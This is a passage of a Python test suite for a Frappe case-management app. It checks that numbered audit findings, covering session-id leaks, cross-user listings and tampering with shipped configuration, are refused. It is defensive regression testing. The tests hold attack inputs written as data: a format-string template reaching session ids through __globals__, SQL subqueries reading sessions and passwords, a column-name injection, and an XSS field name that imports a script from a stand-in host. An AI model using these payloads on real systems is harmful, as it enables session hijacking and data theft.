		self.assertEqual(custom_field("proef_dl", "Dynamic Link", "proef_type")[0], 200)
		frappe.get_doc(
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "proef_kwaad",
				"label": "Proef kwaad",
				"fieldtype": "Dynamic Link",
				"options": "proef_type",
				"insert_after": "title",
			}
		).insert()
		frappe.db.set_value("Custom Field", {"fieldname": "proef_kwaad"}, "options", evil)
		listed = {(df.parent, df.fieldname) for df in dynamic_links.get_dynamic_links()}
		self.assertIn(("Note", "proef_dl"), listed)
		self.assertNotIn(("Note", "proef_kwaad"), listed)
		custom_fields_named_as_fields.execute()  # the update removes it
		self.assertFalse(frappe.db.exists("Custom Field", {"fieldname": "proef_kwaad"}))
		self.assertTrue(frappe.db.exists("Custom Field", {"fieldname": "proef_dl"}))

	def test_a_title_template_fills_in_field_values_only(self):
		"""Round 109: Frappe fills a title field's template with the record by str.format, which
		follows attributes as far as written: a System Manager's template for Note's title,
		"{seen_by[0].copy.__globals__[…]…session.sid}", became the session id of each case-team
		member who closed the login note. Such a template is refused, and one written anyway (the
		bench's Administrator's, here) is left out of the definition. The control: "{content}"."""
		reach = "S {seen_by[0].copy.__globals__[__builtins__][__loader__].find_spec.__globals__[sys].modules[frappe].local.session.sid}"

		def remove():
			frappe.db.delete("Property Setter", {"doc_type": "Note", "field_name": "title"})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)
		for template, status in ((reach, 403), ("Notitie {content}", 200)):
			answer = self.note_setter(
				"DocField", field_name="title", property="options", property_type="Text", value=template
			)
			self.assertEqual(answer[0], status, answer)
		make_property_setter("Note", "title", "options", reach, "Text")
		frappe.clear_cache(doctype="Note")
		self.assertIsNone(frappe.get_meta("Note").get_field("title").options)
		note = frappe.get_doc({"doctype": "Note", "title": "Proef", "seen_by": [{"user": SYSTEM_MANAGER}]})
		note.set_title_field()
		self.assertEqual(note.title, "Proef")
		# round 110: a template's code set the template on the definition in memory, after the
		# definition was built; it is judged when Frappe fills it as well
		note.meta.get_field("title").set("options", reach)
		note.set_title_field()
		self.assertEqual(note.title, "Proef")
		note.meta.get_field("title").set("options", "Notitie {content}")
		note.content = "x"
		note.set_title_field()
		self.assertEqual(note.title, "Notitie x", "the control")

	def test_no_statement_reads_the_sessions_inside_another_one(self):
		"""Rounds 103-108: each stored value Frappe pasted into its SQL read a case-team member's
		session id in a subquery. The third wall: a statement that reads the sessions or passwords
		inside another statement is not run on any connection the site makes, whoever's code sends
		it (here a connection of the bench's Administrator's own). The controls: the sessions read
		in a statement of their own, and the same subquery on another table."""
		db = a_new_connection()
		self.addCleanup(db.close)
		inside = "select name from `tabRole` where (select {0} from `{1}` limit 1) is not null limit 1"
		self.assertTrue(db.sql("select count(*) from `tabSessions`"), "the control: their own statement")
		self.assertTrue(db.sql(inside.format("name", "tabDocType")), "the control: another table")
		for column, table in (("sid", "tabSessions"), ("password", "__Auth")):
			with self.assertRaises(frappe.PermissionError):
				db.sql(inside.format(column, table))

	def test_a_definitions_columns_are_not_changed_by_who_reads_them(self):
		"""Round 111: Frappe handed out its cached list of a DocType's columns itself; a
		Notification's condition changed Note's list in memory (a column "content`=(select …), `x"),
		and the case team's own save of the login note wrote the subquery's result into it. Each
		reader gets a list of its own, of field names only. Round 112: a condition set a field's
		fetch to a subquery in memory, which Frappe's own second save pasted; a fetch is judged
		where Frappe reads it. The controls: the note saves its text; a plain fetch is read."""
		note = frappe.get_doc({"doctype": "Note", "title": "Proef kolommen", "public": 1}).insert()
		self.addCleanup(frappe.clear_cache, doctype="Note")
		columns = frappe.get_meta("Note").get_valid_columns()
		columns.remove("content")
		columns.append("content`=(select 'Termijn'), `_liked_by")
		self.assertIn("content", frappe.get_meta("Note").get_valid_columns())
		note.content = "Eigen tekst"
		note.save()
		self.assertEqual(frappe.db.get_value("Note", note.name, "content"), "Eigen tekst")
		# round 112: a field's fetch changed in memory is judged where Frappe reads it
		field = frappe.get_meta("Note").get_field("content")
		field.fetch_from = "owner.(select 'Termijn')"
		self.assertNotIn(field, frappe.get_meta("Note").get_fields_to_fetch("owner"))
		field.fetch_from = "owner.full_name"
		self.assertIn(field, frappe.get_meta("Note").get_fields_to_fetch("owner"), "the control")

	def test_an_import_updates_only_what_its_writer_reads(self):
		"""Round 103: Frappe's importer compares each record an update names with its row before it
		asks whether its writer may change it: "No changes to update" told a System Manager, value
		by value, what a case's ToDo said. The control: an update of the System Manager's own ToDo;
		a case's ToDo is answered as one that is not there."""
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		own = frappe.get_doc(
			{"doctype": "ToDo", "description": "Eigen importtaak", "allocated_to": SYSTEM_MANAGER}
		)
		as_user(SYSTEM_MANAGER)(own.insert)
		frappe.db.commit()

		def remove():
			frappe.db.delete("Data Import", {"owner": SYSTEM_MANAGER})
			frappe.db.delete("File", {"file_name": ("like", "importproef-%")})
			frappe.db.delete("ToDo", {"name": own.name})
			frappe.db.commit()

		self.addCleanup(remove)
		answers = {}
		for key, name in (("case", case_todo), ("own", own.name), ("missing", "bestaatniet01")):
			upload = frappe.get_doc(
				{
					"doctype": "File",
					"file_name": f"importproef-{key}.csv",
					"content": f"ID,Description\n{name},Termijn\n",
					"is_private": 1,
				}
			)
			as_user(SYSTEM_MANAGER)(upload.insert)
			frappe.db.commit()
			status, answer = self.call(
				SYSTEM_MANAGER,
				"frappe.client.insert",
				"post",
				doc={
					"doctype": "Data Import",
					"reference_doctype": "ToDo",
					"import_type": "Update Existing Records",
					"import_file": upload.file_url,
				},
			)
			answers[key] = (status, str(answer).replace(name, "{0}"))
		self.assertEqual(answers["own"][0], 200, answers["own"])
		self.assertEqual(answers["case"], answers["missing"])
		self.assertEqual(answers["case"][0], 404, answers["case"])

	def test_a_list_as_another_user_shows_only_what_the_asker_may_see(self):
		"""Round 65: Frappe's report "Permitted Documents For User" lists as the user its filter
		names: a System Manager with no school listed a case's comments and ToDos as the
		Administrator."""
		note = frappe.get_doc(
			{"doctype": "Note", "title": "Proefnotitie als een ander", "public": 1}
		).insert()
		frappe.db.commit()
		report = "frappe.desk.query_report.run"

		def listed(user, doctype, field):
			filters = {"user": "Administrator", "doctype": doctype}
			status, answer = self.call(
				user, report, "post", report_name="Permitted Documents For User", filters=filters
			)
			self.assertEqual(status, 200, answer)
			return {row.get(field) for row in answer["result"] if isinstance(row, dict)}

		try:
			self.assertIn(note.name, listed(SYSTEM_MANAGER, "Note", "name"), "the positive control")
			self.assertNotIn("Meldcode Dossier", listed(SYSTEM_MANAGER, "Comment", "reference_doctype"))
			self.assertNotIn("Meldcode Dossier", listed(SYSTEM_MANAGER, "ToDo", "reference_type"))
			self.assertNotIn(
				self.records.dossier, listed(SYSTEM_MANAGER, "Version", "docname"), "nor a case's history"
			)
		finally:
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.commit()

	def test_what_the_app_ships_keeps_its_rows_and_names(self):
		"""Round 65: a System Manager emptied the route's workflow transitions and took the app's
		reports and page from their roles (rows saved alone), renamed the staff-suspicion page and a
		workflow action, merged a module of their own into the app's, and ran a Custom Report of
		"Permitted Documents For User" saved with the app's module."""
		note = frappe.get_doc({"doctype": "Note", "title": "Proefnotitie hernoemen", "public": 1}).insert()
		module = frappe.get_doc(
			{
				"doctype": "Module Def",
				"module_name": "Meldcode Proef Eigen",
				"custom": 1,
				"app_name": "frappe",
			}
		).insert()
		frappe.db.commit()
		transition = frappe.db.get_value("Workflow Transition", {"parent": "Meldcode Dossier Route"})
		report_role = frappe.db.get_value(
			"Has Role", {"parenttype": "Report", "parent": "Meldcode Access Audit"}
		)
		page_role = frappe.db.get_value("Has Role", {"parenttype": "Page", "parent": "meldcode-staff-report"})

		def renamed(doctype, old, new, merge=0) -> int:
			rename = {"doctype": doctype, "old_name": old, "new_name": new, "merge": merge}
			return self.call(SYSTEM_MANAGER, "frappe.client.rename_doc", "post", **rename)[0]

		try:
			self.assertFalse(
				self.updated("Workflow Transition", transition, condition="doc.school == 'geen'")
			)
			self.assertFalse(self.updated("Has Role", report_role, role="System Manager"))
			self.assertFalse(self.updated("Has Role", page_role, role="System Manager"))
			self.assertTrue(
				self.updated("Note", note.name, title="Bijgewerkt"), "the positive control: the door"
			)
			self.assertEqual(renamed("Page", "meldcode-staff-report", "x-staff-report"), 403)
			self.assertEqual(renamed("Workflow Action Master", "Acute Melding", "Acute X"), 403)
			self.assertEqual(renamed("Module Def", module.name, "Meldcode App", merge=1), 403)
			self.assertEqual(
				renamed("Module Def", module.name, "Meldcode Proef Eigen Twee"), 200, "the positive control"
			)
			frappe.db.rollback()
			self.assertFalse(frappe.db.get_value("Workflow Transition", transition, "condition"))
			self.assertTrue(frappe.db.exists("Page", "meldcode-staff-report"))
			self.assertTrue(frappe.db.exists("Workflow Action Master", "Acute Melding"))

			custom = frappe.get_doc(
				{
					"doctype": "Report",
					"report_name": "Meldcode Proef Toegestaan",
					"report_type": "Custom Report",
					"reference_report": "Permitted Documents For User",
					"ref_doctype": "User",
					"module": "Meldcode App",
					"is_standard": "No",
					"json": json.dumps({"columns": [], "filters": {}}),
					"roles": [{"role": "System Manager"}],
				}
			).insert(ignore_permissions=True)
			frappe.db.commit()
			for doctype, expected in (("Meldcode Signal", 403), ("Comment", 200)):
				filters = {"user": "Administrator", "doctype": doctype}
				status, answer = self.call(
					SYSTEM_MANAGER,
					"frappe.desk.query_report.run",
					"post",
					report_name=custom.name,
					filters=filters,
				)
				self.assertEqual(status, expected, f"{doctype}: not run as the app's own report: {answer}")
			self.assertNotIn("Meldcode Dossier", json.dumps(answer["result"]), "the list as the asker")
		finally:
			frappe.db.rollback()
			frappe.db.delete("Report", {"report_name": "Meldcode Proef Toegestaan"})
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.delete("Module Def", {"name": ("like", "Meldcode Proef Eigen%")})
			frappe.db.commit()

	def test_what_the_app_ships_is_not_deleted_made_anew_or_given_other_roles(self):
		"""Round 65: a System Manager deleted the route's workflow (no dossier could be saved after),
		print formats and number cards, made a number card of their own under a shipped card's name,
		and gave the app's report to other roles with a Custom Role."""
		note = frappe.get_doc({"doctype": "Note", "title": "Proefnotitie weg", "public": 1}).insert()
		frappe.db.commit()
		card = {
			"doctype": "Number Card",
			"label": "Open Meldcode Dossiers",
			"type": "Document Type",
			"document_type": "Note",
			"function": "Count",
			"is_public": 1,
		}
		try:
			for doctype, name in (
				("Workflow", "Meldcode Dossier Route"),
				("Number Card", "Open Meldcode Dossiers"),
				("Print Format", "Gespreksverslag"),
			):
				status, answer = self.call(SYSTEM_MANAGER, f"/api/resource/{doctype}/{name}", "delete")
				self.assertEqual(status, 403, f"{doctype} {name}: {answer}")
			status, answer = self.call(SYSTEM_MANAGER, "/api/resource/Note/" + note.name, "delete")
			self.assertEqual(status, 202, f"the positive control: {answer}")
			status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=card)
			self.assertEqual(status, 200, f"the positive control: a card of one's own: {answer}")
			self.assertNotEqual(answer["name"], "Open Meldcode Dossiers")
			# One deleted before the app refused it is not made anew under its name either.
			frappe.db.delete("Number Card", {"name": "Overdue Meldcode Terms"})
			anew = frappe.get_doc({**card, "label": "Overdue Meldcode Terms"})
			self.assertRaises(frappe.PermissionError, as_user(SYSTEM_MANAGER), anew.insert)
			frappe.db.rollback()
			for report, expected in (("Meldcode Open Dossiers", 403), ("Permitted Documents For User", 200)):
				role = {"doctype": "Custom Role", "report": report, "roles": [{"role": "System Manager"}]}
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=role)
				self.assertEqual(status, expected, f"{report}: {answer}")
			frappe.db.rollback()
			self.assertTrue(frappe.db.exists("Workflow", "Meldcode Dossier Route"))
			self.assertEqual(
				frappe.db.get_value("Number Card", "Open Meldcode Dossiers", "document_type"),
				"Meldcode Dossier",
			)
		finally:
			frappe.db.rollback()
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.delete("Number Card", {"name": ("like", "Open Meldcode Dossiers-%")})
			frappe.db.delete("Custom Role", {"report": "Permitted Documents For User"})
			frappe.db.commit()

	def test_no_automation_acts_on_the_apps_configuration(self):
		"""Round 66: a System Manager's workflow on Meldcode Access Grant kept anyone from having
		access taken away (and on Meldcode School stopped every change of a school)."""
		notification = {
			"doctype": "Notification",
			"subject": "Proef",
			"event": "New",
			"channel": "System Notification",
			"message": "Proef",
			"recipients": [{"receiver_by_role": "System Manager"}],
		}
		try:
			for doctype, expected in (
				("Meldcode Access Grant", 403),
				("Meldcode School", 403),
				("Note", 200),
			):
				rule = {**notification, "name": f"Meldcode Proef {doctype}", "document_type": doctype}
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=rule)
				self.assertEqual(status, expected, f"{doctype}: {answer}")
		finally:
			frappe.db.delete("Notification", {"name": ("like", "Meldcode Proef %")})
			frappe.db.commit()

	def private_event(self, member: str):
		"""A private event of ``member`` about school B, removed after the test."""
		event = as_user(member)(
			frappe.get_doc(
				{
					"doctype": "Event",
					"subject": "Proef: VT bellen",
					"starts_on": "2026-12-10 10:00:00",
					"event_type": "Private",
					"event_participants": [
						{"reference_doctype": "Meldcode School", "reference_docname": SCHOOLS["B"][0]}
					],
				}
			).insert
		)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Event", {"name": event.name})
		self.addCleanup(frappe.db.delete, "Event Participants", {"parent": event.name})
		return event

	def test_the_calendar_lists_its_readers_own_events(self):
		"""Round 66: Frappe's get_events takes whose events to list from the request: a teacher and
		a parent's account read an aandachtsfunctionaris' private event about a case. Round 88: its
		participants were listed to every user as rows (`parent=Event`)."""
		member = staff_user("B", "Aandachtsfunctionaris")
		event = self.private_event(member)
		window = {"start": "2026-12-01", "end": "2026-12-31"}
		for user in (TEACHER_A, WEBSITE_USER, SYSTEM_MANAGER):
			status, answer = self.call(
				user, "frappe.desk.doctype.event.event.get_events", "post", user=member, **window
			)
			self.assertEqual(status, 403, f"{user}: {answer}")
		status, answer = self.call(
			member, "frappe.desk.doctype.event.event.get_events", "post", user=member, **window
		)
		self.assertEqual(status, 200, answer)
		self.assertIn(event.name, json.dumps(answer), "the positive control: one's own calendar")
		for user, rows in ((TEACHER_A, 0), (SYSTEM_MANAGER, 0), (member, 1)):
			status, answer = self.call(
				user,
				"frappe.client.get_list",
				"get",
				doctype="Event Participants",
				parent="Event",
				fields=["reference_docname"],
				filters=[["parent", "=", event.name]],
			)
			self.assertEqual(len(answer) if status == 200 else 0, rows, f"{user}: {status} {answer}")

	def test_a_door_that_runs_a_named_method_is_judged_as_that_method(self):
		"""Rounds 99-101: Frappe's tree view, its mapper and the v2 API run a method their request
		names, past the name by which the guard's rules (round 66's calendar rule) and the app's
		replacements are found; a search runs its query as named."""
		member = staff_user("B", "Aandachtsfunctionaris")
		event = self.private_event(member)
		window = {"start": "2026-12-01", "end": "2026-12-31"}
		# Round 99: the tree view called get_events as its tree method, past the calendar rule
		tree = {"doctype": window["start"], "parent": window["end"], "label": "x", "user": member}
		for user in (TEACHER_A, WEBSITE_USER, SYSTEM_MANAGER, member):
			status, answer = self.call(
				user,
				"frappe.desk.treeview.get_all_nodes",
				"get",
				tree_method="frappe.desk.doctype.event.event.get_events",
				**tree,
			)
			self.assertEqual(status, 403, f"{user}: {answer}")
			self.assertNotIn("VT bellen", json.dumps(answer))
		# the control: the door itself lets a tree's own get_children through
		status, answer = self.call(
			SYSTEM_MANAGER,
			"frappe.desk.treeview.get_all_nodes",
			"get",
			tree_method="frappe.desk.treeview.get_children",
			doctype="Note",
			parent="",
			label="Notities",
		)
		self.assertNotIn("not available this way", json.dumps(answer), f"{status}: {answer}")
		# Round 100: the mapper ran Frappe's own get_count, past the app's, on a case's comments
		for user in (TEACHER_A, WEBSITE_USER, SYSTEM_MANAGER):
			status, answer = self.call(
				user,
				"frappe.model.mapper.map_docs",
				"post",
				method="frappe.client.get_count",
				source_names=["Event"],
				target_doc={"subject": ["like", "%VT bellen%"]},
			)
			self.assertEqual(status, 403, f"{user}: {answer}")
		# the control: a method the app does not replace runs through the same door
		status, answer = self.call(
			member,
			"frappe.model.mapper.map_docs",
			"post",
			method="frappe.client.get_list",
			source_names=["Event"],
			target_doc={"subject": ["like", "%VT bellen%"]},
		)
		self.assertEqual(status, 200, answer)
		self.assertIn(event.name, json.dumps(answer))
		# Round 101: the v2 door names the DocType and the method apart; judged by the bare name,
		# get_events answered anyone, and the path's DocType hid the one sent
		for user, status in ((TEACHER_A, 403), (WEBSITE_USER, 403), (member, 200)):
			answer = self.call(user, "/api/v2/method/Event/get_events", "get", user=member, **window)
			self.assertEqual(answer[0], status, f"{user}: {answer}")
		answer = self.call(
			TEACHER_A, "/api/v2/method/Tag/get_tagged_docs", "get", doctype="Meldcode Signal", tag="%"
		)
		self.assertEqual(answer[0], 403, answer)
		status, answer = self.call(
			TEACHER_A, "/api/v2/method/Tag/get_tagged_docs", "get", doctype="Note", tag="%"
		)
		self.assertEqual(status, 200, f"the control: {answer}")
		# the search runs its query as named, past the app's replacement of it
		status, answer = self.call(
			TEACHER_A,
			"frappe.desk.search.search_widget",
			"get",
			doctype="Note",
			txt="x",
			query="frappe.client.get_count",
		)
		self.assertEqual(status, 403, answer)
		# Round 104: an upload runs the method it names instead of saving a file; the control: one
		# open to its sender by its own name
		processlist = "frappe.desk.doctype.system_console.system_console.show_processlist"
		for method, status in ((processlist, 403), ("frappe.auth.get_logged_user", 200)):
			for door in ("upload_file", "frappe.handler.uploadfile"):
				answer = self.call(SYSTEM_MANAGER, door, "post", method=method)
				self.assertEqual(answer[0], status, (door, answer))
		# Round 103: a method that is no search query took the search's text by position as its
		# fields, past the guard's rule on fields; the control: a search query of Frappe's
		for query, status in (
			("frappe.client.get_list", 403),
			("frappe.core.doctype.user.user.user_query", 200),
		):
			answer = self.call(
				SYSTEM_MANAGER,
				"frappe.desk.search.search_link",
				"get",
				doctype="User",
				txt='["name", "api_key"]' if status == 403 else "teacher",
				query=query,
				searchfield="null" if status == 403 else "name",
				page_length=0,
			)
			self.assertEqual(answer[0], status, answer)
		# Round 191: Data Import's template named a user's key among its columns
		for fields, status in ((["name", "api_key"], 403), (["name"], 200)):
			answer = self.call(
				SYSTEM_MANAGER,
				"frappe.core.doctype.data_import.data_import.download_template",
				"get",
				doctype="User",
				export_fields={"User": fields},
				export_records="blank_template",
			)
			self.assertEqual(answer[0], status, answer)

	def test_rows_follow_their_records_also_for_a_user_permission(self):
		"""Round 89: Frappe's list conditions are empty for a user who holds a User Permission on a
		DocType they have no role to read, so the rows of every such record (a webhook's headers,
		its secrets) were listed with another parent's `parent=`. The control: a System Manager
		lists them."""
		from meldcode_app.access.permissions import row_query_conditions

		webhook = frappe.get_doc(
			{
				"doctype": "Webhook",
				"name": "meldcode-proef-rijen",
				"webhook_doctype": "Note",
				"webhook_docevent": "on_update",
				"request_url": "https://hooks.example/proef",
				"webhook_headers": [{"key": "X-Proef-Sleutel", "value": "geheim"}],
			}
		).insert()
		permission = frappe.get_doc(
			{"doctype": "User Permission", "user": TEACHER_A, "allow": "Webhook", "for_value": webhook.name}
		).insert(ignore_permissions=True)
		self.addCleanup(frappe.delete_doc, "Webhook", webhook.name, force=True)
		self.addCleanup(frappe.delete_doc, "User Permission", permission.name, force=True)

		def rows_listed_to(user):
			condition = row_query_conditions(user, "Webhook Header")
			return frappe.db.sql(
				f"select `key` from `tabWebhook Header` where `parent` = %s and {condition}",
				webhook.name,
				pluck=True,
			)

		messages = len(frappe.local.message_log)
		self.assertEqual(rows_listed_to(TEACHER_A), [])
		self.assertEqual(len(frappe.local.message_log), messages, "no refusal shown in the reader's desk")
		self.assertEqual(rows_listed_to(SYSTEM_MANAGER), ["X-Proef-Sleutel"])

	def test_no_one_but_the_bench_administrator_reads_the_running_statements(self):
		"""Round 67: Frappe's System Console showed a System Manager every connection's running
		statement: a case's comment, a login's password, session ids."""
		door = "frappe.desk.doctype.system_console.system_console.show_processlist"
		for user, expected in ((SYSTEM_MANAGER, 403), (TEACHER_A, 403), ("Administrator", 200)):
			status, answer = self.call(user, door, "post")
			self.assertEqual(status, expected, f"{user}: {answer}")

	def test_only_the_bench_administrator_renames_a_custom_field(self):
		"""Round 76: Frappe stores a custom field's new name with db_set, past every hook, and the
		desk pastes it into data-fieldname="…": a System Manager's section break on Event, and on a
		custom field the Administrator added to the dossier, ran a script in the case team's forms."""
		door = "frappe.custom.doctype.custom_field.custom_field.rename_fieldname"
		field = frappe.get_doc(
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_section",
				"label": "Meldcode Test Section",
				"fieldtype": "Section Break",
			}
		).insert()
		frappe.db.commit()
		try:
			planted = "x\"><img src=x onerror=import('//elders.example/x.js')>"
			for user in (SYSTEM_MANAGER, TEACHER_A):
				status, answer = self.call(user, door, "post", custom_field=field.name, fieldname=planted)
				self.assertEqual(status, 403, f"{user}: {answer}")
			self.assertEqual(frappe.db.get_value("Custom Field", field.name, "fieldname"), field.fieldname)
			status, answer = self.call(
				"Administrator", door, "post", custom_field=field.name, fieldname="meldcode_test_part"
			)
			self.assertEqual(status, 200, answer)
			self.assertEqual(
				frappe.db.get_value("Custom Field", field.name, "fieldname"), "meldcode_test_part"
			)
		finally:
			frappe.db.rollback()
			frappe.delete_doc("Custom Field", field.name)
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

	def test_no_password_is_pasted_into_the_trace_lookup(self):
		"""Round 67: the guard's lookup of trace names carried a login's password, which every
		running connection's list shows; a name among other arguments is still looked up."""
		todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		frappe.set_user(TEACHER_A)
		try:
			self.assertEqual(request_guard.unreadable_trace_named({"usr": TEACHER_A, "name": todo}), "ToDo")
			for key in ("pwd", "new_password", "old_password"):
				self.assertIsNone(request_guard.unreadable_trace_named({"usr": TEACHER_A, key: todo}), key)
			self.assertIsNone(request_guard.unreadable_trace_named({"body_as_read": f"usr=x&pwd={todo}"}))
		finally:
			frappe.set_user("Administrator")

	def test_the_patch_loads_the_apps_doctypes_as_shipped(self):
		"""A permission row deleted on its own before the app refused it leaves the DocType's modified
		date as it was: a migrate would not load it again, the patch does."""
		from meldcode_app.patches import app_doctypes_as_shipped

		rule = {"parent": "Meldcode Weighing", "role": "Meldcode Aandachtsfunctionaris"}
		frappe.db.delete("DocPerm", rule)
		frappe.db.set_value("DocType", "Meldcode Exclusion", "custom", 1, update_modified=False)
		frappe.db.commit()
		try:
			app_doctypes_as_shipped.execute()
		finally:
			frappe.db.commit()
			frappe.clear_cache()
		self.assertTrue(frappe.db.exists("DocPerm", rule))
		self.assertEqual(frappe.db.get_value("DocType", "Meldcode Exclusion", "custom"), 0)

	def test_a_refused_read_holds_no_table(self):
		"""A read that ends in an error kept its transaction open, and with it every trace table the
		guard's name lookup read: adding a field to ToDo afterwards waited on it for good (the CI
		run hung)."""
		todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier, "description": "Termijn"})
		status, _answer = self.call(TEACHER_A, "frappe.desk.form.utils.get_next", doctype="ToDo", value=todo)
		self.assertEqual(status, 403)
		frappe.db.sql("set session lock_wait_timeout = 5")
		field = {
			"doctype": "Custom Field",
			"dt": "ToDo",
			"fieldname": "meldcode_proef_slot",
			"fieldtype": "Data",
		}
		try:
			frappe.get_doc(field).insert(ignore_permissions=True)  # waits 5 s at most, then fails
		finally:
			frappe.db.sql("set session lock_wait_timeout = default")
			frappe.db.delete("Custom Field", {"name": "ToDo-meldcode_proef_slot"})
			if frappe.db.has_column("ToDo", "meldcode_proef_slot"):
				frappe.db.sql_ddl("alter table `tabToDo` drop column `meldcode_proef_slot`")
			frappe.db.commit()
			frappe.clear_cache(doctype="ToDo")

	def test_the_sites_user_permissions_hide_no_case_from_its_team(self):
		"""Round 60: a System Manager with no school gave a case team member a User Permission (on
		a pupil, on another school) and the dossier vanished from their list and form."""
		member = staff_user("B", "Intern Begeleider")
		other_school = SCHOOLS["A"][0]
		restriction = {"doctype": "User Permission", "user": member, "apply_to_all_doctypes": 1}
		made = []

		def reads_the_dossier() -> bool:
			listed = self.listed(member, "Meldcode Dossier", "name", [self.records.dossier])
			status, _answer = self.call(
				member, "frappe.desk.form.load.getdoc", doctype="Meldcode Dossier", name=self.records.dossier
			)
			return listed == {self.records.dossier} and status == 200

		self.assertTrue(reads_the_dossier(), "the positive control: before any restriction")
		try:
			status, answer = self.call(
				SYSTEM_MANAGER,
				"frappe.client.insert",
				"post",
				doc={**restriction, "allow": "Meldcode Dossier", "for_value": self.other_dossier},
			)
			self.assertEqual(status, 403, answer)
			# none on any DocType of the app (round 66); one on a user is the site's own
			for allow, value, expected in (
				("Meldcode School", other_school, 403),
				("User", SYSTEM_MANAGER, 200),
			):
				status, answer = self.call(
					SYSTEM_MANAGER,
					"frappe.client.insert",
					"post",
					doc={**restriction, "allow": allow, "for_value": value},
				)
				self.assertEqual(status, expected, answer)
				if status == 200:
					made.append(answer["name"])
			self.assertTrue(made, "the positive control: the door takes a User Permission")
			self.assertTrue(reads_the_dossier())
		finally:
			for name in made:
				frappe.delete_doc("User Permission", name, ignore_permissions=True, force=True)
			frappe.db.commit()

	def test_no_customisation_copies_or_counts_a_case_trace(self):
		"""Round 58: a System Manager's autoname "TD-.#####" on ToDo and a Note's link fetching a
		ToDo's text and reference: any desk user who counted up read every case term ToDo (which
		dossier, which term); a Workflow on ToDo was accepted too."""
		todo = frappe.get_doc(
			{
				"doctype": "ToDo",
				"allocated_to": staff_user("B", "Aandachtsfunctionaris"),
				"description": "Termijn gesprek met de ouders",
				"reference_type": "Meldcode Dossier",
				"reference_name": self.records.dossier,
			}
		).insert(ignore_permissions=True)
		autoname = {
			"doctype": "Property Setter",
			"doctype_or_field": "DocType",
			"property": "autoname",
			"property_type": "Data",
			"value": "TD-.#####",
		}
		link = {"doctype": "Custom Field", "dt": "Note", "insert_after": "title", "fieldtype": "Link"}
		own_doctype = {
			"doctype": "DocType",
			"name": "Proef Eigen Soort",
			"module": "Custom",
			"custom": 1,
			"permissions": [{"role": "System Manager", "read": 1}],
		}
		fetched = {"fieldname": "meldcode_taak_tekst", "fieldtype": "Small Text", "read_only": 1}
		made = []
		frappe.db.commit()
		try:
			for doc in (
				{**autoname, "doc_type": "ToDo"},
				{**autoname, "doc_type": "workflow action"},
				{**link, "fieldname": "meldcode_taak", "options": "ToDo"},
				{
					"doctype": "Property Setter",
					"doctype_or_field": "DocField",
					"doc_type": "Note",
					"field_name": "title",
					"property": "options",
					"property_type": "Data",
					"value": "File",
				},
				{
					"doctype": "Workflow",
					"workflow_name": "Meldcode proefstroom",
					"document_type": "ToDo",
					"states": [{"state": "Pending", "doc_status": "0", "allow_edit": "System Manager"}],
				},
				{**own_doctype, "fields": [{"fieldname": "taak", "fieldtype": "Link", "options": "ToDo"}]},
			):
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=doc)
				self.assertEqual(status, 403, f"{doc}: {answer}")
			for doc in (
				{**autoname, "doc_type": "Note", "value": "hash"},
				{**link, "fieldname": "meldcode_persoon", "options": "User"},
				{**own_doctype, "fields": [{"fieldname": "persoon", "fieldtype": "Link", "options": "User"}]},
				{
					**autoname,
					"doctype_or_field": "DocField",
					"doc_type": "Note",
					"field_name": "title",
					"property": "label",
					"value": "File",
				},
			):
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=doc)
				self.assertEqual(status, 200, f"the positive control: {doc}: {answer}")
				made.append((doc["doctype"], answer["name"]))
			note = {"doctype": "Note", "title": "Proefnotitie"}
			status, answer = self.call(TEACHER_A, "frappe.client.insert", "post", doc=note)
			self.assertEqual(status, 200, f"the control: the teacher writes notes: {answer}")
			# The bench's Administrator's own fields: a link to a ToDo and a fetch of its text.
			for field in (
				{**link, "fieldname": "meldcode_taak", "options": "ToDo"},
				{**link, **fetched, "fetch_from": "meldcode_taak.description"},
			):
				made.append(("Custom Field", frappe.get_doc(field).insert().name))
			frappe.db.commit()
			note["meldcode_taak"] = todo.name
			status, answer = self.call(TEACHER_A, "frappe.client.insert", "post", doc=note)
			self.assertNotEqual(status, 200, answer)
			self.assertNotIn("ouders", json.dumps(answer))
			status, answer = self.call("Administrator", "frappe.client.insert", "post", doc=note)
			self.assertEqual(answer.get("meldcode_taak_tekst"), todo.description, "the positive control")
			older = frappe.get_doc({**autoname, "doc_type": "ToDo"})
			older.db_insert()  # as set up before the rule, by a System Manager
			older.db_set("owner", SYSTEM_MANAGER)
			from meldcode_app.patches import no_rules_on_traces

			no_rules_on_traces.execute()
			self.assertFalse(frappe.db.exists("Property Setter", older.name), "it goes with the update")
			self.assertTrue(frappe.db.exists("Custom Field", made[-1][1]), "the Administrator's stay")
		finally:
			frappe.db.rollback()
			for doctype, name in reversed(made):
				frappe.delete_doc(doctype, name, force=True, ignore_permissions=True)
			frappe.db.delete("Note", {"title": "Proefnotitie"})
			frappe.db.delete("ToDo", {"name": todo.name})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

	def test_no_energy_point_rule_judges_a_case_trace(self):
		rule = frappe.get_doc(
			{
				"doctype": "Energy Point Rule",
				"rule_name": "Meldcode proefregel",
				"reference_doctype": "ToDo",
				"for_doc_event": "Custom",
				"condition": "'Proefterm' in (doc.description or '')",
				"points": 1,
				"user_field": "allocated_to",
				"enabled": 1,
			}
		)
		enabled = frappe.db.get_single_value("Energy Point Settings", "enabled")
		frappe.db.set_single_value("Energy Point Settings", "enabled", 1)
		try:
			rule.insert(ignore_permissions=True)
			todo = {"doctype": "ToDo", "description": "Proefterm", "allocated_to": TEACHER_B}
			case = frappe.get_doc(
